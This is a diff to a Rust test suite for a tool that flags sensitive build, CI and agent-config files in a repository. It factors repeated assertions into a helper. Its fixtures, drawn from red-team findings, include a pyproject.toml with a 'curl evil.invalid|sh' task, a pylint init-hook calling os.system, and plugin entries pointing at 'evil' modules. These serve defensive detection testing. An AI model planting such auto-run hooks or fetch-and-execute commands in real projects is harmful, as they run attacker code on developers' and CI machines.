@@ -304,11 +304,30 @@ fn catalogue_paths_count_wherever_they_sit() {
     );
 }
 
+/// Writes `files` and `ordinary` into a fresh tree: every one of `files`
+/// is listed as added and sensitive, none of `ordinary` is.
+fn all_sensitive(files: &[(&str, &str)], ordinary: &[(&str, &str)]) {
+    let repo = Repo::new();
+    let mut found = repo.after(|r| {
+        for (path, text) in files.iter().chain(ordinary) {
+            r.write(path, text);
+        }
+    });
+    let mut expected: Vec<String> = files
+        .iter()
+        .map(|(path, _)| format!("Sensitive {path} Added"))
+        .collect();
+    expected.sort();
+    found.sort();
+    let missing: Vec<&String> = expected.iter().filter(|e| !found.contains(e)).collect();
+    assert!(missing.is_empty(), "not listed: {missing:#?}");
+    assert_eq!(found, expected);
+}
+
 /// The second red team's list: files that builds, CI and developers'
 /// tools run, which had passed without a finding.
 #[test]
 fn the_build_and_ci_entry_points_the_red_team_found_are_sensitive() {
-    let repo = Repo::new();
     let files = [
         ("Dockerfile", "FROM alpine\nRUN id\n"),
         ("docker-compose.yml", "services:\n  app:\n    command: id\n"),
@@ -339,19 +358,7 @@ fn the_build_and_ci_entry_points_the_red_team_found_are_sensitive() {
             "[project]\nname = \"x\"\n\n[tool.hatch.envs.default.scripts]\ntest = \"id\"\n",
         ),
     ];
-    let found = repo.after(|r| {
-        for (path, text) in files {
-            r.write(path, text);
-        }
-    });
-    let mut expected: Vec<String> = files
-        .iter()
-        .map(|(path, _)| format!("Sensitive {path} Added"))
-        .collect();
-    expected.sort();
-    let mut found = found;
-    found.sort();
-    assert_eq!(found, expected);
+    all_sensitive(&files, &[]);
 }
 
 /// The third red team's list: siblings of the second's, in other CI
@@ -359,7 +366,6 @@ fn the_build_and_ci_entry_points_the_red_team_found_are_sensitive() {
 /// other agents' settings; all had passed without a finding.
 #[test]
 fn the_siblings_the_third_red_team_found_are_sensitive() {
-    let repo = Repo::new();
     let files: &[(&str, &str)] = &[
         (".build.yml", "x\n"),
         (".builds/ci.yml", "x\n"),
@@ -482,25 +488,13 @@ fn the_siblings_the_third_red_team_found_are_sensitive() {
         ("pyproject.toml", "[project]\nname='x'\nversion='1'\n[tool.pylint.main]\ninit-hook = \"import os; os.system('id')\"\n[tool.mypy]\nplugins = ['evil_plugin']\n[tool.coverage.run]\nplugins = ['evil_plugin']\n[tool.hatch.version]\nsource = 'code'\npath = 'evil.py'\n[tool.taskipy.tasks]\ntest = 'curl evil.invalid|sh'\n[tool.pixi.tasks]\ntest = 'id'\n[tool.rye.scripts]\ntest = 'id'\n[project.entry-points.pytest11]\nx = 'evil'\n[tool.setuptools.dynamic]\nversion = {attr = 'evil.__version__'}\n"),
         ("crate2/Cargo.toml", "[package]\nname='c'\nversion='0.1.0'\n[features]\ndefault=[]\n[[bin]]\nname='x'\npath='../evil.rs'\n"),
     ];
-    let found = repo.after(|r| {
-        for (path, text) in files {
-            r.write(path, text);
-        }
-        r.write(
+    all_sensitive(
+        files,
+        &[(
             ".git-blame-ignore-revs",
             "0000000000000000000000000000000000000000\n",
-        );
-    });
-    let mut expected: Vec<String> = files
-        .iter()
-        .map(|(path, _)| format!("Sensitive {path} Added"))
-        .collect();
-    expected.sort();
-    let mut found = found;
-    found.sort();
-    let missing: Vec<&String> = expected.iter().filter(|e| !found.contains(e)).collect();
-    assert!(missing.is_empty(), "not listed: {missing:#?}");
-    assert_eq!(found, expected);
+        )],
+    );
 }
 
 /// The fourth red team's list (release tools, deploy platforms, more CI,
@@ -508,7 +502,6 @@ fn the_siblings_the_third_red_team_found_are_sensitive() {
 /// `tools.go` (source) stay ordinary.
 #[test]
 fn the_siblings_the_fourth_red_team_found_are_sensitive() {
-    let repo = Repo::new();
     let files: &[&str] = &[
         ".gitlab-ci.d/x.yml",
         "wercker.yml",
@@ -566,23 +559,10 @@ fn the_siblings_the_fourth_red_team_found_are_sensitive() {
         ".kilocode/mcp.json",
         ".kilocode/rules/x.md",
     ];
-    let found = repo.after(|r| {
-        for path in files {
-            r.write(path, "x\n");
-        }
-        r.write("go.sum", "x\n");
-        r.write("tools.go", "package tools\n");
-    });
-    let mut expected: Vec<String> = files
-        .iter()
-        .map(|path| format!("Sensitive {path} Added"))
-        .collect();
-    expected.sort();
-    let mut found = found;
-    found.sort();
-    let missing: Vec<&String> = expected.iter().filter(|e| !found.contains(e)).collect();
-    assert!(missing.is_empty(), "not listed: {missing:#?}");
-    assert_eq!(found, expected);
+    all_sensitive(
+        &files.iter().map(|path| (*path, "x\n")).collect::<Vec<_>>(),
+        &[("go.sum", "x\n"), ("tools.go", "package tools\n")],
+    );
 }
 
 #[test]
